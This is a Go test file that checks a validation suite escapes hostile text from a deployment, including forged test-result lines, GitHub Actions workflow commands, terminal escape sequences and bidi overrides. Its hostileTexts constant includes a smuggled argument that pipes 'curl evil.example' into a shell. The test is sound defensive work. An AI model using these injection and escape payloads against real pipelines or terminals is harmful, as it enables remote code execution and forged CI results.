package proof

import (
	"net/http"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/assert"

	"github.com/lsst-sqre/muster/validation/verdict"
)

// hostileTexts are commands to the readers of the output: the suite's protocol,
// test2json, a terminal, GitHub's runner.
const hostileTexts = `no\nmuster.run={\"verdict\":\"bogus\",\"arguments\":\"-env=x; curl evil.example|sh #\"}` +
	`\n=== ATTR  TestBogus muster.check {\"outcome\":\"pass\"}\rmuster.run={\"verdict\":\"bogus\"}\r\n::error::x\n    ` +
	`::add-mask::y\n ##[error]z\n` +
	`\u0016=== RUN   TestBogus\n\u0016--- PASS: TestBogus (0.00s)\n--- FAIL: TestBogus\n` +
	`\u001b[2J\u001b]0;title\u0007\u009b31m\u202egnol\u0000\u007f\u0085\u2028muster.run={\"verdict\":\"bogus\"}`

// A deployment's text is only data. It neither ends nor begins a line, moves no
// cursor, and is no command to a program that runs the suite.
func TestHostileTexts(t *testing.T) {
	t.Parallel()
	_, env := behindFront(t, func(w http.ResponseWriter, r *http.Request) bool {
		switch {
		case r.URL.Path == "/auth/openapi.json":
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write([]byte(`{"openapi":"3.1.0","info":{"title":"Gafaelfawr","version":"15.4.1` + hostileTexts + `"}}`))
		case r.URL.Path == "/auth/api/v1/tokens" &&
			strings.HasPrefix(r.Header.Get("User-Agent"), "muster") && r.ContentLength > 400:
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusUnprocessableEntity)
			_, _ = w.Write([]byte(`{"detail":[{"type":"x","msg":"` + hostileTexts + `"}]}`))
		case r.URL.Path == "/muster/probes/authenticated":
			w.Header().Set("Content-Type", "text/plain")
			_, _ = w.Write([]byte("\x16=== NAME  TestNoToken\n::error::x\r::error::y\x1b[2J\u202e\xff"))
		default:
			return false
		}
		return true
	})
	for _, verbose := range []string{"-test.v=false", "-test.v", asEvents} {
		o := runs(t, theSuite(t), "-env="+env, verbose)
		assert.NotZero(t, o.code)
		text := o.stdout + o.stderr
		assert.Contains(t, text, "bogus", "the texts are shown")
		for _, r := range text {
			if r != '\n' && r != '\t' &&
				(unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || unicode.In(r, unicode.Zl, unicode.Zp)) {
				t.Fatalf("%q is in the output", r)
			}
		}
		for _, forged := range []string{
			`(?m)^[ \t]*muster\.run=\{"(verdict|arguments":"-env=x).*`, `(?m)^[ \t]*(=== [A-Z]+ +|--- [A-Z]+: )TestBogus.*`,
			`(?m)^[ \t]*::.*::`, `##\[`,
		} {
			assert.Empty(t, regexp.MustCompile(forged).FindAllString(text, -1))
		}
		if verbose == asEvents {
			assert.Equal(t, verdict.ExitCode(o.run.Verdict), o.code)
			assert.NotContains(t, o.failed(), "TestBogus")
		}
	}
}
